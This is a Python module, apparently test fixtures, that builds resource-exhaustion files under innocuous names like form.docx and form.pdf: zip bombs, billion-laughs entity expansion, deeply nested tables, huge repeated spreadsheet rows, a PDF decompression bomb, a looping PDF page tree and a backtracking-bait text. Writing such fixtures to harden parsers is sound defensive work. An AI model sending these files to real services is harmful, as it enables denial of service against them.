"""Files made to exhaust whoever reads them, each small itself."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping

_LEVELS = 10_000
_LAUGHS = "".join(
    f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else "ha"}{(f"&l{n - 1};" if n else "ha") * 9}">'
    for n in range(12)
)
_CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_ODS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def _zip(parts: Mapping[str, str | bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def _docx(body: str, before: str = "") -> bytes:
    document = f"{before}<w:document {_WORD}><w:body>{body}</w:body></w:document>"
    return _zip({"[Content_Types].xml": _CONTENT_TYPES, "word/document.xml": document})


def _xlsx(sheet: str, **more: str) -> bytes:
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    book = (
        f'<workbook {_SHEET} xmlns:r="{relations}"><sheets><sheet name="a" sheetId="1" r:id="r1"/>'
    )
    links = (
        f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{relations}/worksheet" '
        f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{relations}/sharedStrings" '
        f'Target="sharedStrings.xml"/></Relationships>'
    )
    root = (
        f'<Relationships xmlns="{package}"><Relationship Id="r1" '
        f'Type="{relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": root,
            "xl/workbook.xml": f"{book}</sheets></workbook>",
            "xl/_rels/workbook.xml.rels": links,
            "xl/worksheets/sheet1.xml": f"<worksheet {_SHEET}>{sheet}</worksheet>",
            **more,
        }
    )


def _ods(rows: str) -> bytes:
    content = (
        f"<office:document-content {_ODS}><office:body><office:spreadsheet>"
        f'<table:table table:name="a">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return _zip({"mimetype": kind, "content.xml": content})


def one_part_of_zeros() -> bytes:
    """150 MB of blanks in a document's part."""
    return _docx(" " * 150_000_000)


def zip_in_zip() -> bytes:
    """An archive of an archive of an archive."""
    inner = _zip({"a": b"0" * 50_000_000})
    for _ in range(3):
        inner = _zip({f"{n}.docx": inner for n in range(10)})
    return inner


def many_entries() -> bytes:
    """60,000 parts."""
    return _zip({f"word/{n}.xml": "" for n in range(60_000)})


def overlapping_entries() -> bytes:
    """A directory whose 1,000 names all are one part."""
    whole = _zip({"word/document.xml": b"0" * 1_000_000})
    at = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    entry, tail = whole[at:end], bytearray(whole[end:])
    tail[8:12] = (1000).to_bytes(2, "little") * 2
    tail[12:16] = (len(entry) * 1000).to_bytes(4, "little")
    return whole[:at] + entry * 1000 + bytes(tail)


def laughing_word() -> bytes:
    """Entities of entities in a document."""
    said = f"<!DOCTYPE w [{_LAUGHS}]>"
    return _docx("<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>", said)


def laughing_page() -> bytes:
    """Entities of entities in a web page."""
    return f"<!DOCTYPE html [{_LAUGHS}]><html><body><p>&l11;</p></body></html>".encode()


def nested_word_tables() -> bytes:
    """Tables in tables in tables."""
    opened = "<w:tbl><w:tr><w:tc>" * _LEVELS
    return _docx(opened + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * _LEVELS)


def nested_page_tables() -> bytes:
    """The same in a web page."""
    return ("<html><body>" + "<table><tr><td>" * _LEVELS + "项目名称").encode()


def endless_page() -> bytes:
    """A million opened tags."""
    return b"<html>" + b"<div>" * 1_000_000


def repeated_rows() -> bytes:
    """One row, repeated a thousand million times, of as many cells."""
    cell = '<table:table-cell table:number-columns-repeated="1000000000"><text:p>1</text:p>'
    row = '<table:table-row table:number-rows-repeated="1000000000">'
    return _ods(f"{row}{cell}</table:table-cell></table:table-row>")


def far_cells() -> bytes:
    """A sheet with its first and its last cell."""
    first = '<row r="1"><c r="A1"><v>1</v></c></row>'
    last = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _xlsx(f'<dimension ref="A1:XFD1048576"/><sheetData>{first}{last}</sheetData>')


def merged_everywhere() -> bytes:
    """A sheet whose cells are one merged cell, many times over."""
    merges = '<mergeCell ref="A1:XFD1048576"/>' * 2000
    data = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'
    return _xlsx(f"{data}<mergeCells>{merges}</mergeCells>")


def long_strings() -> bytes:
    """A string of 100 MB that a thousand cells show."""
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 1000))
    strings = f"<sst {_SHEET}><si><t>{'字' * 30_000_000}</t></si></sst>"
    return _xlsx(f"<sheetData>{cells}</sheetData>", **{"xl/sharedStrings.xml": strings})


def unpacking_page() -> bytes:
    """A PDF whose page unpacks to 500 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"0 0 m " * 1_000_000) for _ in range(80)) + packer.flush()
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>",
        b"<</Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed),
    )
    body = b"".join(b"%d 0 obj%b endobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body + b"trailer<</Root 1 0 R>>"


def looping_pages() -> bytes:
    """A PDF whose tree of pages holds itself, and says that it has a thousand million."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000000/Parent 2 0 R>>",
    )
    body = b"".join(b"%d 0 obj%b endobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body + b"trailer<</Root 1 0 R>>"


def one_long_line() -> bytes:
    """A text of one line with six million cells."""
    return b"1," * 6_000_000


def one_long_blank() -> bytes:
    """A text of blanks between two words, which patterns may try over and over."""
    return "项目名称".encode() + b" " * 4_000_000 + "甲：".encode()


BOMBS: tuple[tuple[str, Callable[[], bytes]], ...] = (
    ("form.docx", one_part_of_zeros),
    ("form.docx", zip_in_zip),
    ("form.docx", many_entries),
    ("form.docx", overlapping_entries),
    ("form.docx", laughing_word),
    ("form.html", laughing_page),
    ("form.docx", nested_word_tables),
    ("form.html", nested_page_tables),
    ("form.html", endless_page),
    ("form.ods", repeated_rows),
    ("form.xlsx", far_cells),
    ("form.xlsx", merged_everywhere),
    ("form.xlsx", long_strings),
    ("form.pdf", unpacking_page),
    ("form.pdf", looping_pages),
    ("form.csv", one_long_line),
    ("form.txt", one_long_blank),
)
"""Each under the name it is sent as."""
